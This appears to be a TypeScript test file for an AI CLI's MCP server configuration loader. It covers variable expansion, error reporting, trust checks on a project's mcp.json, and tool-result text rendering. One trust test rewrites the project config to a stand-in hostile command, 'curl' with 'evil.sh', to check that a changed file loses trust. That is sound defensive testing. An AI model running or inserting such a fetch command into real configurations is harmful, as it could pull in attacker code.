// biome-ignore-all lint/suspicious/noTemplateCurlyInString: `${NAME}` is the mcp.json syntax under test.
import { mkdir, writeFile } from "node:fs/promises";
import { join } from "node:path";
import { describe, expect, test } from "../../../../tests/support/fixtures.js";
import { configPaths } from "../../../state/paths.js";
import { loadMcpSetup, trustProjectConfig } from "./config.js";
import { resultText } from "./result-text.js";

async function write(path: string, value: unknown): Promise<void> {
  await mkdir(join(path, ".."), { recursive: true });
  await writeFile(path, typeof value === "string" ? value : JSON.stringify(value));
}

describe("MCP configuration", () => {
  test("reads the mcpServers shape of other CLIs, expanding ${VAR}", async ({ home }) => {
    const paths = configPaths(home);
    await write(paths.mcpConfig, {
      mcpServers: {
        "my files": { command: "npx", args: ["server", "${ROOT}"], env: { MODE: "ro" }, timeout: 5000 },
        tracker: { type: "http", url: "https://mcp.example.com/mcp", headers: { Authorization: "Bearer ${TOKEN}" } },
        off: { command: "x", disabled: true },
        neither: { args: [] },
        legacy: { type: "sse", url: "https://old.example.com/sse" },
      },
    });
    const setup = await loadMcpSetup({
      userConfig: paths.mcpConfig,
      trustedProjects: paths.trustedProjects,
      env: { ROOT: "/docs", TOKEN: "t0k" },
    });
    expect(setup.servers).toEqual([
      {
        name: "my_files",
        source: "user",
        startupTimeoutMs: 10_000,
        toolTimeoutMs: 5000,
        transport: { kind: "stdio", command: "npx", args: ["server", "/docs"], env: { MODE: "ro" } },
      },
      {
        name: "tracker",
        source: "user",
        startupTimeoutMs: 10_000,
        toolTimeoutMs: 60_000,
        transport: { kind: "http", url: "https://mcp.example.com/mcp", headers: { Authorization: "Bearer t0k" } },
      },
    ]);
    expect(setup.problems).toEqual([
      `${paths.mcpConfig}: server 'neither': give either "command" (stdio) or "url" (Streamable HTTP).`,
      `${paths.mcpConfig}: server 'legacy': the old SSE transport is not supported; use Streamable HTTP.`,
    ]);
  });

  test("broken JSON is a problem, not a crash", async ({ home }) => {
    const paths = configPaths(home);
    await write(paths.mcpConfig, "{ not json");
    const setup = await loadMcpSetup({ userConfig: paths.mcpConfig, trustedProjects: paths.trustedProjects, env: {} });
    expect(setup.servers).toEqual([]);
    expect(setup.problems[0]).toMatch(/mcp\.json is not valid JSON .*; no server from it starts\.$/);
  });

  test("a project's servers count only while that version of the file is trusted, never expanding ${VAR}", async ({
    home,
    workspace,
  }) => {
    const paths = configPaths(home);
    const projectFile = join(workspace, ".marvin", "mcp.json");
    const local = { command: "node", args: ["server.js", "${ROOT}"], env: { KEY: "${TOKEN}" }, cwd: "tools" };
    await write(projectFile, { mcpServers: { local } });
    const places = {
      userConfig: paths.mcpConfig,
      trustedProjects: paths.trustedProjects,
      projectDir: workspace,
      env: { ROOT: "/docs", TOKEN: "t0k" },
    };
    expect(await loadMcpSetup(places)).toEqual({
      servers: [],
      problems: [],
      untrustedProject: { path: projectFile, changed: false, literalVariables: true },
    });
    expect(await trustProjectConfig(paths.trustedProjects, workspace)).toEqual({ literalVariables: true });
    const trusted = await loadMcpSetup(places);
    expect(trusted.servers.map((server) => [server.name, server.source, server.transport])).toEqual([
      [
        "local",
        "project",
        {
          kind: "stdio",
          command: "node",
          args: ["server.js", "${ROOT}"],
          env: { KEY: "${TOKEN}" },
          cwd: join(workspace, "tools"),
        },
      ],
    ]);
    await write(projectFile, { mcpServers: { local: { command: "curl", args: ["evil.sh"] } } });
    expect((await loadMcpSetup(places)).untrustedProject).toEqual({
      path: projectFile,
      changed: true,
      literalVariables: false,
    });
  });
});

describe("MCP tool results as text", () => {
  test("text as is, media and resources summarised, structured content when there is nothing else", () => {
    expect(
      resultText({
        content: [
          { type: "text", text: "first" },
          { type: "audio", data: "AAAA", mimeType: "audio/wav" },
          { type: "resource_link", uri: "file:///a.txt", name: "a.txt", description: "the notes" },
          { type: "resource", resource: { uri: "file:///b.bin", mimeType: "application/zip", blob: "AAAAAA==" } },
        ],
      }),
    ).toBe(
      "first\n[audio: audio/wav, 3 bytes; not shown to the model]\n" +
        "[resource link: a.txt <file:///a.txt> — the notes]\n" +
        "[resource file:///b.bin: application/zip, 4 bytes; not shown to the model]",
    );
    expect(resultText({ content: [], structuredContent: { temperature: 21 } })).toBe('{"temperature":21}');
    expect(resultText({ content: [] })).toBe("(the tool returned no content)");
  });
});
